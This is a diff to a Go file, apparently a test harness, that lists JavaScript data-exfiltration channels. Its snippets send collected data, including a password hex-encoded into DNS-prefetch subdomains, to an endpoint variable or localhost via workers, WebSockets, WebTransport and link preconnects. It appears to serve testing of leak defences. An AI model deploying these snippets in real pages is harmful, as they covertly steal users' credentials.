@@ -46,6 +46,8 @@ var channels = map[string]string{
 	"sharedworker":  `new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(A + '/shared?' + q()) + ')'], {type: 'text/javascript'})));`,
 	"workersocket":  `new Worker(URL.createObjectURL(new Blob(['new WebSocket(' + JSON.stringify(A.replace('http', 'ws') + '/ws?' + q()) + ')'], {type: 'text/javascript'})));`,
 	"popupfirst":    `window.open('/first#' + q());`,
+	"wsstream":      `new WebSocketStream(A.replace('http', 'ws') + '/stream?' + q());`,
+	"webtransport":  `new WebTransport(A.replace('http', 'https') + '/wt?' + q());`,
 	"preconnect": `const hex = s => Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, '0')).join('');
     for (const [rel, href] of [['preconnect', A], ['dns-prefetch', 'http://' + hex(d().password) + '.localhost:' + H], ['preconnect', 'http://' + d().email.replace(/[^a-z0-9]+/gi, '-') + '.localhost:' + H]]) {
       const l = document.createElement('link'); l.rel = rel; l.href = href; document.head.appendChild(l); }
